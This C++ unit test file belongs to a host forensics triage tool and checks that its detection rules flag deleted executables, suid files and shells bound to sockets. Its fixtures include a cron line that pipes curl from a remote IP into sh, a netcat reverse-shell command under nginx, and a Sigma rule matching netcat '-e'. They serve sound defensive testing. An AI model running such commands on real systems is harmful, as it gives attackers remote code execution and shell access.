// SPDX-License-Identifier: Apache-2.0
#include "triage/host/host_checks.h"

#include "tests/unit/triage/made_scene.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

namespace firsthour::triage {
namespace {

using testing::Contains;
using testing::HasSubstr;
using testing::Not;

constexpr const char* kDeleted =
    R"({"type":"host.process","process.pid":812,"process.name":"x","process.executable":"/tmp/x","process.executable_deleted":true,"user.name":"root"})"
    "\n";

TEST(HostChecks, AFindingSaysWhatItStandsOn) {
  MadeCase made;
  made.add_records("host.process", std::string{"{\"type\":\"host.process\",\"process.pid\":1}\n"} + kDeleted);
  const auto checks = shipped_checks();
  const auto findings = findings_of(*checks, made);
  ASSERT_EQ(findings.size(), 1u);
  const Finding& f = findings[0];
  EXPECT_EQ(f.rule, "deleted_executable");
  EXPECT_EQ(f.detector, "sigma");
  EXPECT_EQ(f.severity, Severity::high);
  EXPECT_EQ(f.item, "c1/1");
  EXPECT_EQ(f.path, "/tmp/x");
  EXPECT_EQ(f.record + "\n", kDeleted);
  EXPECT_EQ(f.attack, std::vector<std::string>{"T1070.004"});
  EXPECT_THAT(f.why, HasSubstr("Process 812 (x, user root) runs /tmp/x"));
  EXPECT_THAT(f.why_zh, HasSubstr("进程 812（x，用户 root）"));
  ASSERT_FALSE(f.matches.empty());
  EXPECT_EQ(f.matches[0].string, "deleted.process.executable_deleted");
  EXPECT_EQ(f.matches[0].offset, 40u);
  EXPECT_EQ(f.matches[0].length, f.record.size());
}

TEST(HostChecks, FirstFindingsComeWhileTheCollectionStillDoes) {
  MadeCase made;
  made.add_records("host.process", kDeleted);
  made.add("file", "persistence.cron", "/etc/cron.d/x", "* * * * * root curl http://198.51.100.7/x | sh\n");
  const auto checks = shipped_checks();
  ASSERT_TRUE(checks->take(made.items()[0], made));
  EXPECT_EQ(checks->findings().size(), 1u);
  ASSERT_TRUE(checks->take(made.items()[1], made));
  EXPECT_EQ(checks->findings().size(), 2u);
  EXPECT_EQ(checks->findings().size(), 2u) << "asking twice changes nothing";
}

TEST(HostChecks, JoinsAreOfOneHostOnly) {
  const std::string shell =
      R"({"type":"host.process","process.pid":9,"process.executable":"/usr/bin/bash","process.stdin":"socket:[7]"})"
      "\n";
  const std::string socket =
      R"({"type":"host.socket","network.transport":"tcp","socket.state":"ESTABLISHED","socket.inode":7})"
      "\n";
  MadeCase made;
  made.add_records("host.process", shell);
  made.add_records("host.socket", socket).item.host = "other";
  const auto apart = shipped_checks();
  EXPECT_TRUE(findings_of(*apart, made).empty());

  MadeCase together;
  together.add_records("host.process", shell);
  together.add_records("host.socket", socket);
  const auto joined = shipped_checks();
  EXPECT_EQ(findings_of(*joined, together).size(), 1u);
}

TEST(HostChecks, LinesThatAreNoRecordsAreCountedAndNamed) {
  MadeCase made;
  made.add_records("host.process", std::string{"{\"type\":\"host.process\"}\n{broken\n\xff\n"} + kDeleted);
  const auto checks = shipped_checks();
  EXPECT_EQ(findings_of(*checks, made).size(), 1u);
  EXPECT_THAT(checks->unknown(), Contains(HasSubstr("2 of its lines are no records; the first is line 2")));
}

TEST(HostChecks, WhatWasNotReadIsUnknownAndNoFinding) {
  MadeCase made;
  CaseItem& denied = made.add_records("host.bpf_program", "");
  denied.item.outcome = Outcome::denied;
  denied.item.reason = "bpf(2): operation not permitted";
  denied.content.clear();
  made.add_records("host.process", R"({"type":"host.process","process.pid":9,"process.kernel_thread":false})"
                                   "\n");
  made.add_records(
      "host.file",
      R"({"type":"host.file","file.path":"/usr/bin/x","file.type":"file","file.mode":"4755","file.setuid":true,"package.state":"unknown"})"
      "\n");
  const auto checks = shipped_checks();
  EXPECT_TRUE(findings_of(*checks, made).empty());
  const auto unknown = checks->unknown();
  EXPECT_THAT(unknown, Contains(HasSubstr("host.bpf_program: denied: bpf(2): operation not permitted")));
  EXPECT_THAT(unknown, Contains(HasSubstr("the program of 1 processes could not be read")));
  EXPECT_THAT(unknown, Contains(HasSubstr("no package database")));
  EXPECT_THAT(unknown, Contains(HasSubstr("host.socket")));
  EXPECT_THAT(unknown, Not(Contains(HasSubstr("not collected, so its checks were not made: host.process"))));
}

TEST(HostChecks, OurOwnProcessesAndSocketsAreNoFinding) {
  MadeCase made;
  made.add_records(
      "host.process",
      R"({"type":"host.process","process.pid":9,"process.executable":"/tmp/collect","process.executable_deleted":true,"process.firsthour":true})"
      "\n");
  const auto checks = shipped_checks();
  EXPECT_TRUE(findings_of(*checks, made).empty());
}

TEST(HostChecks, AnotherRuleFileIsAnotherDetector) {
  const auto folder =
      std::filesystem::temp_directory_path() / ("firsthour-checks-" + std::to_string(::getpid()));
  std::filesystem::create_directories(folder);
  std::ofstream{folder / "mount.yml"}
      << "title: A tmpfs\nname: a_tmpfs\nlevel: low\nlogsource: {product: linux, service: host.mount}\n"
         "detection:\n  s:\n    mount.type: tmpfs\n  condition: s\n";
  auto checks = HostChecks::load({folder.string()});
  std::filesystem::remove_all(folder);
  ASSERT_TRUE(checks);
  MadeCase made;
  made.add_records("host.mount", R"({"type":"host.mount","mount.type":"tmpfs","mount.point":"/x"})"
                                 "\n");
  const auto findings = findings_of(**checks, made);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].why, "A tmpfs");
}

TEST(HostChecks, ManyFindingsOfOneRuleAreBoundedAndCounted) {
  std::string lines;
  for (int i = 0; i < 700; ++i) {
    lines += R"({"type":"host.file","file.path":"/usr/local/bin/s)" + std::to_string(i) +
             R"(","file.type":"file","file.mode":"4755","file.setuid":true,"package.state":"unowned"})"
             "\n";
  }
  MadeCase made;
  made.add_records("host.file", lines);
  const auto checks = shipped_checks();
  EXPECT_EQ(findings_of(*checks, made).size(), 500u);
  EXPECT_THAT(checks->unknown(), Contains(HasSubstr("suid_unowned: 200 more findings than the 500 kept")));
}

TEST(HostChecks, HostileNamesStayOnOneSafeLine) {
  MadeCase made;
  made.add_records(
      "host.process",
      R"({"type":"host.process","process.pid":9,"process.name":"x\u001b[2J\ny","process.executable":"/tmp/a\u202eb","process.executable_deleted":true})"
      "\n");
  const auto checks = shipped_checks();
  const auto findings = findings_of(*checks, made);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].why.find_first_of("\n\x1b"), std::string::npos);
  EXPECT_THAT(findings[0].why, HasSubstr("\\u202e"));
}

TEST(HostChecks, SecretsOfACommandLineAreMaskedInTheSentence) {
  MadeCase made;
  made.add_records(
      "host.process",
      R"({"type":"host.process","process.pid":9,"process.name":"x","process.executable":"/tmp/x","process.command_line":"x --password=hunter2"})"
      "\n");
  const auto checks = shipped_checks();
  const auto findings = findings_of(*checks, made);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_THAT(findings[0].why, HasSubstr("--password=****"));
}

TEST(HostChecks, AllProcessesOfOneProgramAreOneFindingThatNamesThem) {
  std::string lines;
  for (const int pid : {12, 13, 14}) {
    lines += R"({"type":"host.process","process.pid":)" + std::to_string(pid) +
             R"(,"process.name":"x","process.executable":"/dev/shm/x"})"
             "\n";
  }
  MadeCase made;
  made.add_records("host.process", lines);
  const auto checks = shipped_checks();
  const auto findings = findings_of(*checks, made);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_THAT(findings[0].why, HasSubstr("12, 13, 14"));
}

TEST(HostChecks, PublicRulesForProcessesMeetTheRecordsOfAHost) {
  const auto folder =
      std::filesystem::temp_directory_path() / ("firsthour-entries-" + std::to_string(::getpid()));
  std::filesystem::create_directories(folder);
  std::ofstream{folder / "rule.yml"}
      << "title: Netcat\nlogsource: {product: linux, category: process_creation}\n"
         "detection:\n  s: {Image|endswith: /nc, CommandLine|contains: ' -e '}\n"
         "  parent: {ParentImage|endswith: /nginx}\n  condition: s and parent\n";
  MadeCase made;
  made.add_records(
      "host.process",
      R"({"type":"host.process","process.pid":8,"process.name":"nginx","process.executable":"/usr/sbin/nginx"})"
      "\n"
      R"({"type":"host.process","process.pid":9,"process.parent.pid":8,"process.executable":"/usr/bin/nc","process.command_line":"nc -e /bin/sh 203.0.113.9 1"})"
      "\n");
  auto checks = HostChecks::load({folder.string()});
  ASSERT_TRUE(checks);
  EXPECT_TRUE((*checks)->rule_problems().empty()) << "such a rule is for logs, and no mistake";
  EXPECT_TRUE(findings_of(**checks, made).empty());
  const auto rules =
      sigma::SigmaRules::load({{folder.string()}, {FIRSTHOUR_SOURCE_DIR "/triage/sigma/mappings"}, ""}, {});
  std::filesystem::remove_all(folder);
  ASSERT_TRUE(rules);
  const auto& hosts = dynamic_cast<const SigmaHostChecks&>(**checks);
  const RecordsAsEntries entries = hosts.as_entries(**rules);
  EXPECT_EQ(entries.records, 2u);
  sigma::SigmaRun run{**rules};
  ASSERT_TRUE(run.hear(entries.told));
  const auto outcome = run.finish();
  ASSERT_EQ(outcome.findings.size(), 1u);
  EXPECT_EQ(outcome.findings[0].rule, "Netcat");
  EXPECT_EQ(
      outcome.findings[0].why,
      "Netcat: Image: /usr/bin/nc; CommandLine: nc -e /bin/sh 203.0.113.9 1; ParentImage: /usr/sbin/nginx");
}

TEST(HostChecks, AMissingFolderIsAnError) {
  auto checks = HostChecks::load({"/nonexistent/rules"});
  ASSERT_FALSE(checks);
  EXPECT_EQ(checks.error().code, Errc::not_found);
}

}  // namespace
}  // namespace firsthour::triage
